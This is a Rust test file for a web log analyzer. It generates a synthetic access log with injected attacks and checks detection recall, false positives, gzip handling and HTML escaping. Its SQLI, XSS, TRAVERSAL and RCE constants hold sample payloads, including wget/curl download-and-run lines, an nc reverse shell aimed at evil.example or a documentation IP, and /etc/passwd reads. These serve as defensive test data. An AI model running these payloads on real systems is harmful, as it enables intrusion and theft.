#![allow(clippy::unwrap_used, clippy::expect_used)]
//! `logs analyze` end to end: a generated 100k-line combined log with a
//! known set of injected attacks and a scanner, through the CRS and the
//! built-in rules; bad lines; gzip; HTML escaping.
//!
//! Detection floors (asserted, and printed with the measured values):
//!
//! | rules    | recall floor | FPR ceiling | why |
//! |----------|--------------|-------------|-----|
//! | CRS PL1  | 0.95         | 0.002       | every injected payload is a textbook SQLi/XSS/traversal/RCE or a listed scanner UA that CRS PL1 is built to catch; a few rare encodings may slip. Benign traffic holds a few tricky but harmless values (an apostrophe in a name, "select" and "union" as words, `&` in a search): CRS PL1 aims at near-zero false positives on such traffic |
//! | built-in | 0.80         | 0.005       | the built-in set is a small fallback (a few rules per class), so it misses more variants; its patterns are narrow so it should stay quiet on benign traffic |
//!
//! The scanner client (hundreds of distinct 404 paths) is judged by the
//! behaviour heuristic, not the rules: it must be flagged `scanner`, and no
//! benign client may be.

use std::collections::HashSet;
use std::io::Write;
use std::path::{Path, PathBuf};

use monitor::analyze::{
    self, html, report, LineRef, Options, RuleChoice, RuleOptions, Rules, Skip, MAX_LINE_BYTES,
};

/// splitmix64: a seeded, dependency-free generator (same log every run).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len())]
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
}

fn shared_crs() -> PathBuf {
    std::env::var_os("PALISADE_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"))
        .join("crs-v4")
}

fn crs_rules() -> Rules {
    analyze::load_rules(&RuleOptions {
        crs_dir: Some(shared_crs()),
        ..RuleOptions::default()
    })
    .expect("CRS from ../shared/crs-v4")
}

fn builtin_rules() -> Rules {
    analyze::load_rules(&RuleOptions {
        choice: RuleChoice::Builtin,
        data_dir: PathBuf::from("/nonexistent"),
        ..RuleOptions::default()
    })
    .unwrap()
}

const UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
];

const WORDS: &[&str] = &[
    "shoes",
    "red+dress",
    "laptop",
    "O%27Neil",
    "select+size",
    "union+jack+flag",
    "rock+%26+roll",
    "drop-down+menu",
    "coffee",
    "table+lamp",
    "script+writing+book",
    "50%25+off",
    "caf%C3%A9",
    "where+to+buy",
    "1+or+2+seats",
    "garden",
    "usb-c+cable",
    "kids",
    "gift+card",
    "sale",
];

const REFERERS: &[&str] = &[
    "-",
    "https://shop.example/",
    "https://www.google.com/",
    "https://shop.example/search?q=shoes",
];

fn benign_target(r: &mut Rng) -> (&'static str, String, u16) {
    let n = r.below(100);
    let (method, target) = match n {
        0..=14 => ("GET", "/".to_string()),
        15..=34 => (
            "GET",
            r.pick(&[
                "/static/css/site.css",
                "/static/js/app.4f9c2e.js",
                "/static/js/vendor.91ab3.js",
                "/favicon.ico",
                "/images/logo.svg",
                "/robots.txt",
            ])
            .to_string(),
        ),
        35..=54 => ("GET", format!("/products/{}", r.below(60))),
        55..=64 => (
            "GET",
            format!(
                "/products?category={}&page={}&sort=price",
                r.pick(&["shoes", "bags", "home", "garden", "toys"]),
                r.below(8)
            ),
        ),
        65..=74 => ("GET", format!("/search?q={}", r.pick(WORDS))),
        75..=79 => ("GET", format!("/images/products/{}.jpg", r.below(60))),
        80..=84 => (
            "POST",
            r.pick(&["/login", "/api/cart", "/api/v1/events", "/checkout"])
                .to_string(),
        ),
        85..=89 => (
            "GET",
            format!(
                "/api/v1/items?ids={},{}&fields=name,price",
                r.below(4),
                r.below(4)
            ),
        ),
        90..=93 => ("HEAD", "/".to_string()),
        94..=96 => ("GET", format!("/account/orders/{}", 10_000 + r.below(30))),
        _ => (
            "GET",
            format!(
                "/blog/{}-tips-for-{}",
                r.below(5),
                r.pick(&["spring", "summer", "travel", "cooking"])
            ),
        ),
    };
    let status = match r.below(100) {
        0..=1 => 404,
        2..=6 => 304,
        7 if method == "POST" => 302,
        _ => 200,
    };
    (method, target, status)
}

/// Percent-encodes what a browser or curl would (or, when `full` is
/// false, only spaces, as hand-made attack requests often are).
fn encode(payload: &str, full: bool) -> String {
    let mut s = String::new();
    for b in payload.bytes() {
        let keep = b.is_ascii_alphanumeric() || b"-_.~/".contains(&b) || (!full && b != b' ');
        if keep {
            s.push(b as char);
        } else {
            s.push_str(&format!("%{b:02X}"));
        }
    }
    s
}

const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "1; DROP TABLE users--",
    "' AND SLEEP(5)--",
    "admin'--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "1 AND 1=1 UNION ALL SELECT NULL,table_name FROM information_schema.tables",
    "' OR 1=1 LIMIT 1 -- -",
    "1'; WAITFOR DELAY '0:0:5'--",
    "-1 UNION SELECT 1,@@version,3",
];
const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "javascript:alert(document.domain)",
    "<svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert('xss')>",
    "'><script src=https://evil.example/x.js></script>",
];
const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "....//....//....//etc/passwd",
    "/etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "../../../../proc/self/environ",
];
const RCE: &[&str] = &[
    ";cat /etc/passwd",
    "|id",
    "$(whoami)",
    "`uname -a`",
    ";wget http://evil.example/x.sh -O /tmp/x.sh;sh /tmp/x.sh",
    "&& curl http://evil.example/p | bash",
    "; nc -e /bin/sh 203.0.113.66 4444",
];
const SCANNER_UAS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
];

/// Ground truth of the generated log.
struct Truth {
    attacks: HashSet<u64>,
    benign: HashSet<u64>,
    attacks_by_kind: Vec<(&'static str, usize)>,
    scanner: String,
}

const TOTAL_LINES: u64 = 100_000;
const SCANNER_IP: &str = "198.51.100.250";

fn generate(path: &Path) -> Truth {
    let mut r = Rng(0x5eed_1065);
    let benign_clients: Vec<(String, &str)> = (0..400)
        .map(|i| {
            let ip = if i % 10 == 0 {
                format!("2001:db8::{:x}", 0x100 + i)
            } else {
                format!("10.{}.{}.{}", i % 7, i / 7, 1 + i % 250)
            };
            let ua = UAS[(i * 7 + i / 3) % UAS.len()];
            (ip, ua)
        })
        .collect();
    let attackers: Vec<String> = (0..30).map(|i| format!("203.0.113.{}", 10 + i)).collect();
    let mut out = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    let mut truth = Truth {
        attacks: HashSet::new(),
        benign: HashSet::new(),
        attacks_by_kind: vec![
            ("sqli", 0),
            ("xss", 0),
            ("traversal", 0),
            ("rce", 0),
            ("scanner-ua", 0),
        ],
        scanner: SCANNER_IP.to_string(),
    };
    let start: i64 = 1_795_392_000; // 2026-11-23 00:00:00 UTC
    let mut scanner_probe = 0;
    for n in 1..=TOTAL_LINES {
        let t = start + (n as i64 * 86_400) / TOTAL_LINES as i64;
        let stamp = clf_time(t);
        let roll = r.below(1000);
        let line = if roll < 25 {
            // An attack: 2.5% of lines.
            let kind = r.below(5);
            let client = r.pick(&attackers).clone();
            let (method, base, _) = benign_target(&mut r);
            let path = base.split('?').next().unwrap().to_string();
            let full = r.chance(60);
            let (target, ua) = match kind {
                0 => (
                    format!("{path}?id={}", encode(r.pick::<&str>(SQLI), full)),
                    *r.pick(UAS),
                ),
                1 => (
                    format!("{path}?q={}", encode(r.pick::<&str>(XSS), full)),
                    *r.pick(UAS),
                ),
                2 => (
                    format!("/download?file={}", encode(r.pick::<&str>(TRAVERSAL), full)),
                    *r.pick(UAS),
                ),
                3 => (
                    format!("{path}?host=127.0.0.1{}", encode(r.pick::<&str>(RCE), full)),
                    *r.pick(UAS),
                ),
                _ => (base.clone(), *r.pick(SCANNER_UAS)),
            };
            truth.attacks_by_kind[kind].1 += 1;
            truth.attacks.insert(n);
            let status = *r.pick(&[200, 200, 403, 404, 500]);
            // nginx escapes `"`, `\` and non-printable bytes as \xHH.
            let target = target.replace('\\', "\\x5C").replace('"', "\\x22");
            format!(
                "{client} - - [{stamp}] \"{method} {target} HTTP/1.1\" {status} {} \"-\" \"{ua}\"",
                r.below(5000)
            )
        } else if roll < 31 && scanner_probe < 600 {
            // The scanner client: distinct paths, nearly all 404.
            scanner_probe += 1;
            let target = format!(
                "/{}/{scanner_probe}{}",
                r.pick(&[
                    "admin",
                    "backup",
                    "old",
                    "wp-content",
                    "test",
                    "dev",
                    "cms",
                    "api",
                    "private",
                    "tmp"
                ]),
                [
                    "/index.php",
                    ".zip",
                    "/config.bak",
                    "/login.aspx",
                    "/readme.html",
                    "/install.php"
                ][scanner_probe % 6]
            );
            let status = if scanner_probe % 40 == 0 { 200 } else { 404 };
            format!("{SCANNER_IP} - - [{stamp}] \"GET {target} HTTP/1.1\" {status} 162 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\"")
        } else {
            let (ip, ua) = r.pick(&benign_clients);
            let (method, target, status) = benign_target(&mut r);
            // Browsers send the page as referer for its assets.
            let referer = if target.starts_with("/static/") || target.starts_with("/images/") {
                "https://shop.example/"
            } else {
                r.pick(REFERERS)
            };
            truth.benign.insert(n);
            format!(
                "{ip} - - [{stamp}] \"{method} {target} HTTP/1.1\" {status} {} \"{referer}\" \"{ua}\"",
                r.below(90_000)
            )
        };
        writeln!(out, "{line}").unwrap();
    }
    out.flush().unwrap();
    truth
}

/// Unix seconds → `23/Nov/2026:10:00:00 +0000`.
fn clf_time(t: i64) -> String {
    let f = report::format_time(t); // "YYYY-MM-DD HH:MM"
    let months = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let m: usize = f[5..7].parse().unwrap();
    format!(
        "{}/{}/{}:{}:{:02} +0000",
        &f[8..10],
        months[m - 1],
        &f[0..4],
        &f[11..16],
        t.rem_euclid(60)
    )
}

fn print_lines(log: &Path, lines: &[u64]) {
    let text = std::fs::read_to_string(log).unwrap();
    let all: Vec<&str> = text.lines().collect();
    for n in lines {
        println!("  {n}: {}", all[(*n - 1) as usize]);
    }
}

#[test]
fn generated_log_recall_and_false_positives() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let truth = generate(&log);
    println!(
        "generated {TOTAL_LINES} lines: {} attacks {:?}, {} benign",
        truth.attacks.len(),
        truth.attacks_by_kind,
        truth.benign.len()
    );
    assert!(truth.attacks.len() > 2000 && truth.benign.len() > 90_000);

    for (name, rules, recall_floor, fpr_ceiling) in [
        ("crs", crs_rules(), 0.95, 0.002),
        ("builtin", builtin_rules(), 0.80, 0.005),
    ] {
        let opts = Options {
            flagged_lines: 1_000_000,
            ..Options::default()
        };
        let a = analyze::analyze(std::slice::from_ref(&log), &rules, &opts, None);
        assert!(!a.had_file_errors());
        assert_eq!(a.summary.lines, TOTAL_LINES);
        let flagged: HashSet<u64> = a.summary.flagged.iter().map(|l: &LineRef| l.line).collect();
        let mut missed: Vec<u64> = truth
            .attacks
            .iter()
            .filter(|n| !flagged.contains(n))
            .copied()
            .collect();
        let mut fps: Vec<u64> = truth
            .benign
            .iter()
            .filter(|n| flagged.contains(n))
            .copied()
            .collect();
        missed.sort_unstable();
        fps.sort_unstable();
        let recall = 1.0 - missed.len() as f64 / truth.attacks.len() as f64;
        let fpr = fps.len() as f64 / truth.benign.len() as f64;
        println!(
            "{name}: recall {recall:.4} ({} of {} attacks), false-positive rate {fpr:.5} ({} of {} benign); {} lines in {:.1} s, {} evaluated, {} cached",
            truth.attacks.len() - missed.len(),
            truth.attacks.len(),
            fps.len(),
            truth.benign.len(),
            a.summary.lines,
            a.elapsed.as_secs_f64(),
            a.summary.evaluated,
            a.summary.cache_hits
        );
        println!("{name}: missed (first 15):");
        print_lines(&log, &missed[..missed.len().min(15)]);
        println!("{name}: false positives (first 15):");
        print_lines(&log, &fps[..fps.len().min(15)]);
        assert_eq!(
            a.summary.skipped.values().sum::<u64>(),
            0,
            "{:?}",
            a.summary.skipped_samples
        );
        assert!(
            recall >= recall_floor,
            "{name}: recall {recall} below {recall_floor}"
        );
        assert!(fpr <= fpr_ceiling, "{name}: FPR {fpr} above {fpr_ceiling}");

        // The scanner is flagged by behaviour; no benign client is.
        let flagged = report::flagged_clients(&a);
        let scanners: Vec<&str> = flagged
            .iter()
            .filter(|(_, _, f)| f.contains(&"scanner"))
            .map(|(c, _, _)| c.as_str())
            .collect();
        assert_eq!(scanners, vec![truth.scanner.as_str()], "{name}");
        // Attacks answered 2xx are counted as suspicious successes.
        assert!(a.summary.suspicious_successes > 0);
        assert!(a.summary.suspicious_successes < a.summary.attacks);
        // The injected classes are reported by category.
        let cats: Vec<&str> = report::categories(&a).iter().map(|c| c.0).collect();
        for want in ["sqli", "xss", "traversal", "rce", "scanner"] {
            assert!(cats.contains(&want), "{name}: no {want} in {cats:?}");
        }
        // The JSON report carries the same totals.
        let j = report::json(&a, 10);
        assert_eq!(j["attacks"], a.summary.attacks);
        assert_eq!(j["lines"], TOTAL_LINES);
    }
}

#[test]
fn bad_lines_are_counted_and_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("mixed.log");
    let good = "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET /ok HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n";
    let mut data = Vec::new();
    data.extend_from_slice(good.as_bytes()); // 1
    data.extend_from_slice(b"GET /index.html HTTP/1.1 200\n"); // 2 malformed
    data.extend_from_slice(&good.as_bytes()[..30]); // 3 truncated
    data.push(b'\n');
    data.extend_from_slice(b"\x00\x01\x02\xff\xfe binary junk\n"); // 4 binary
    data.extend(std::iter::repeat_n(b'A', MAX_LINE_BYTES * 3)); // 5 too long
    data.push(b'\n');
    data.extend_from_slice(good.as_bytes()); // 6
    data.extend_from_slice(b"\n"); // 7 blank: neither entry nor skipped
    data.extend_from_slice(&good.as_bytes()[..good.len() - 1]); // 8, no final newline
    std::fs::write(&log, &data).unwrap();
    let a = analyze::analyze(
        std::slice::from_ref(&log),
        &builtin_rules(),
        &Options::default(),
        None,
    );
    assert!(!a.had_file_errors());
    assert_eq!(a.summary.lines, 8);
    assert_eq!(a.summary.requests, 3);
    let count = |k: Skip| a.summary.skipped.get(&k).copied().unwrap_or(0);
    assert_eq!(count(Skip::Malformed), 1);
    assert_eq!(count(Skip::Truncated), 1);
    assert_eq!(count(Skip::Binary), 1);
    assert_eq!(count(Skip::TooLong), 1);
    let sample: Vec<(u64, Skip)> = a
        .summary
        .skipped_samples
        .iter()
        .map(|(at, k)| (at.line, *k))
        .collect();
    assert_eq!(
        sample,
        vec![
            (2, Skip::Malformed),
            (3, Skip::Truncated),
            (4, Skip::Binary),
            (5, Skip::TooLong)
        ]
    );
    let text = report::text(&a, 10);
    assert!(text.contains("mixed.log:5 (too_long)"), "{text}");

    // A missing file is reported, the others still analysed.
    let a = analyze::analyze(
        &[dir.path().join("absent.log"), log],
        &builtin_rules(),
        &Options::default(),
        None,
    );
    assert!(a.had_file_errors());
    assert!(a.files[0].error.is_some());
    assert_eq!(a.summary.requests, 3);
}

#[test]
fn gzip_input_gives_the_same_result() {
    let dir = tempfile::tempdir().unwrap();
    let plain = dir.path().join("a.log");
    let mut text = String::new();
    for i in 0..2000 {
        let target = if i % 10 == 0 {
            "/p?id=1%27%20OR%20%271%27=%271"
        } else {
            "/index.html"
        };
        text.push_str(&format!(
            "10.0.0.{} - - [23/Nov/2026:10:{:02}:00 +0000] \"GET {target} HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n",
            i % 200,
            i % 60
        ));
    }
    std::fs::write(&plain, &text).unwrap();
    // Two gzip members, as `cat a.gz b.gz` makes.
    let gz = dir.path().join("a.log.1.gz");
    let mut bytes = Vec::new();
    for half in [&text[..text.len() / 2], &text[text.len() / 2..]] {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        e.write_all(half.as_bytes()).unwrap();
        bytes.extend(e.finish().unwrap());
    }
    std::fs::write(&gz, &bytes).unwrap();
    let rules = builtin_rules();
    let a = analyze::analyze(&[plain], &rules, &Options::default(), None);
    let b = analyze::analyze(&[gz], &rules, &Options::default(), None);
    assert!(b.files[0].gzip && !a.files[0].gzip);
    assert_eq!(b.summary.lines, 2000);
    assert_eq!(b.summary.attacks, 200);
    assert_eq!(
        (a.summary.requests, a.summary.attacks),
        (b.summary.requests, b.summary.attacks)
    );
    // A gzip file cut short: what was read is analysed, the file reported.
    let cut = dir.path().join("cut.gz");
    std::fs::write(&cut, &bytes[..bytes.len() / 3]).unwrap();
    let c = analyze::analyze(&[cut], &rules, &Options::default(), None);
    assert!(c.had_file_errors(), "a truncated gzip stream is an error");
    assert!(c.summary.lines > 0);
}

#[test]
fn html_report_escapes_log_data() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("xss<b>.log");
    let lines = [
        "<script>alert(1)</script> - - [23/Nov/2026:10:00:00 +0000] \"GET /q?x=<script>alert('pwn')</script> HTTP/1.1\" 200 5 \"-\" \"<img src=x onerror=alert(2)>\"",
        "203.0.113.5 - - [23/Nov/2026:10:00:01 +0000] \"GET /\\x22><svg/onload=alert(3)>?a=<script>alert(4)</script> HTTP/1.1\" 200 5 \"-\" \"Mozilla\"",
        "203.0.113.5 - - [23/Nov/2026:10:00:02 +0000] \"GET /p?q=%3Cscript%3Ealert(5)%3C/script%3E&e=\\x1b[2J HTTP/1.1\" 200 5 \"-\" \"Mozilla\"",
    ];
    std::fs::write(&log, lines.join("\n")).unwrap();
    let a = analyze::analyze(&[log], &crs_rules(), &Options::default(), None);
    assert_eq!(a.summary.attacks, 3, "{}", report::text(&a, 10));
    let page = html::page(&a, 10);
    // The page has no script or image of its own: any `<script`, `<img`
    // or `<svg/onload` in it would come from the log.
    let lower = page.to_ascii_lowercase();
    assert!(!lower.contains("<script"), "unescaped script tag");
    assert!(!lower.contains("<img"), "unescaped img tag");
    assert!(!lower.contains("<svg/onload"), "unescaped svg");
    assert!(!page.contains('\u{1b}'));
    assert!(page.contains("&lt;script&gt;alert(&#39;pwn&#39;)&lt;/script&gt;"));
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "client escaped"
    );
    assert!(page.contains("xss&lt;b&gt;.log"));
    assert!(page.contains("Content-Security-Policy"));
    // Terminal text: no raw escape byte reaches the terminal.
    assert!(!report::text(&a, 10).contains('\u{1b}'));
}

/// The shared verdict cache is exact: the generated log's first lines
/// (plus the same requests again from loopback clients, which CRS treats
/// apart) give the same attacks, rules and categories with the cache on
/// several threads as with every line through the engine.
#[test]
fn cached_verdicts_are_the_uncached_ones() {
    let dir = tempfile::tempdir().unwrap();
    let full = dir.path().join("access.log");
    generate(&full);
    let text = std::fs::read_to_string(&full).unwrap();
    let head: Vec<&str> = text.lines().take(4000).collect();
    let mut lines: Vec<String> = head.iter().map(|l| l.to_string()).collect();
    for (i, l) in head.iter().take(400).enumerate() {
        let (_, rest) = l.split_once(' ').unwrap();
        let lo = if i % 2 == 0 { "127.0.0.1" } else { "::1" };
        lines.push(format!("{lo} {rest}"));
    }
    let log = dir.path().join("slice.log");
    std::fs::write(&log, lines.join("\n") + "\n").unwrap();

    let rules = crs_rules();
    let plan = monitor::analyze::engine::KeyPlan::of(&rules.ruleset);
    assert!(
        plan.cacheable && !plan.client && !plan.time,
        "CRS reads the client only through its loopback @ipMatch: {plan:?}"
    );
    let run = |cache: bool, threads: usize| {
        let opts = Options {
            cache,
            threads,
            flagged_lines: usize::MAX,
            ..Options::default()
        };
        analyze::analyze(std::slice::from_ref(&log), &rules, &opts, None)
    };
    let cached = run(true, 3);
    let plain = run(false, 1);
    let s = |a: &analyze::Analysis| {
        let mut by_rule: Vec<(u64, u64)> =
            a.summary.by_rule.iter().map(|(k, v)| (*k, *v)).collect();
        by_rule.sort_unstable();
        (
            a.summary.attacks,
            a.summary.flagged.clone(),
            by_rule,
            a.summary.by_category.clone(),
            a.summary.suspicious_successes,
        )
    };
    assert_eq!(s(&cached), s(&plain));
    assert!(plain.summary.attacks > 0);
    assert_eq!(plain.summary.cache_hits, 0);
    assert_eq!(
        cached.summary.cache_hits + cached.summary.evaluated,
        plain.summary.evaluated
    );
    println!(
        "{} lines: {} cache hits, {} evaluated",
        lines.len(),
        cached.summary.cache_hits,
        cached.summary.evaluated
    );
    assert!(
        cached.summary.cache_hits > 1000,
        "{}",
        cached.summary.cache_hits
    );
}
